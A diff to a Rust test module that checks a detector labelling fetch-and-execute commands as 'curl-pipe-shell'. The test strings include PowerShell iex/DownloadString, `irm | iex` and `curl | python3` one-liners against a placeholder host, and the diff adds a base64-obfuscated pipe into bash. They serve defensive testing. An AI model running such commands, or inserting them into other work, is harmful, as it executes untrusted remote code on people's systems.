@@ -253,6 +253,7 @@ mod tests {
             "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))",
             "irm https://x.example | iex",
             "curl -sSL https://x.example/p.py | python3 -",
+            "echo Y3VybCB4 | base64 -d | bash",
         ] {
             assert_eq!(rules(text), ["curl-pipe-shell"], "{text}");
         }
